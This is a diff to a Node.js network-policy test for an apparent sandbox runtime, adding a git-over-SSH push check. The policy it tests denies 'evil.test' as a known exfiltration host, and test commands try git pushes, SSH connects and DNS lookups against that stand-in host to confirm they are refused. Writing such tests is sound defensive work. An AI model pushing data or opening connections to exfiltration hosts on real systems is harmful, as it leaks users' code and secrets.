@@ -4,7 +4,7 @@
 // Usage: node network-domains.mjs <backend> <base>
 import { spawn, execFileSync } from 'node:child_process';
 import { createServer } from 'node:http';
-import { mkdirSync, writeFileSync } from 'node:fs';
+import { chmodSync, copyFileSync, mkdirSync, writeFileSync } from 'node:fs';
 import { createRequire } from 'node:module';
 import { join } from 'node:path';
 import { createRuntime } from '../../dist/src/index.js';
@@ -126,6 +126,24 @@ async function run(session, commands) {
   return out;
 }
 
+// git over SSH: the test's sshd (SHELLRING_TEST_SSH: its port and a directory with a client key, a known_hosts line
+// for git.test at that port, and a bare repository) reached through the CONNECT helper GIT_SSH_COMMAND names.
+const ssh = process.env.SHELLRING_TEST_SSH ? JSON.parse(process.env.SHELLRING_TEST_SSH) : undefined;
+let sshPush = {};
+if (ssh) {
+  copyFileSync(join(ssh.dir, 'id'), join(ws, 'ssh-id'));
+  chmodSync(join(ws, 'ssh-id'), 0o600);
+  copyFileSync(join(ssh.dir, 'known_hosts'), join(ws, 'ssh-known-hosts'));
+  const ref = `pushed-${backend}-${process.getuid()}`;
+  const push = (host) =>
+    `GIT_SSH_COMMAND="$GIT_SSH_COMMAND -i $PWD/ssh-id -o UserKnownHostsFile=$PWD/ssh-known-hosts -o StrictHostKeyChecking=yes -o IdentitiesOnly=yes -o BatchMode=yes" ` +
+    `git -C push-src push -q ssh://root@${host}:${ssh.port}${ssh.dir}/remote.git HEAD:refs/heads/${ref}`;
+  sshPush = {
+    sshPush: `rm -rf push-src && git init -q -b main push-src && git -C push-src -c user.name=t -c user.email=t@t commit -q --allow-empty -m pushed && ${push('git.test')} && echo "pushed ${ref}"`,
+    sshPushRefused: `${push('evil.test')} 2>&1 | head -1`,
+  };
+}
+
 const facts = {};
 const named = await session(
   { allow: ['web.test', 'git.test', 'registry.test'], deny: ['evil.test'], reasons: { 'evil.test': 'a known exfiltration host' } },
@@ -147,6 +165,7 @@ facts.named = await run(named.session, {
   sshHelper: `printf 'GET /ssh HTTP/1.0\\r\\n\\r\\n' | ${connect} web.test ${webPort} | tail -1`,
   sshHelperRefused: `${connect} evil.test 22 </dev/null; echo "exit $?"`,
   sshCommand: 'echo "$GIT_SSH_COMMAND"',
+  ...sshPush,
   udpNode: `${node} -e "require('dgram').createSocket('udp4').on('error', (e) => console.log(e.code)).send('x', 53, '8.8.8.8', (e) => console.log(e ? e.code : 'sent'))" 2>&1 | head -1`,
   dns: `getent hosts evil.test || echo "no answer: $?"`,
   lookupPython: `python3 -c "import socket; socket.getaddrinfo('web.test', 80)" 2>&1 | tail -1`,
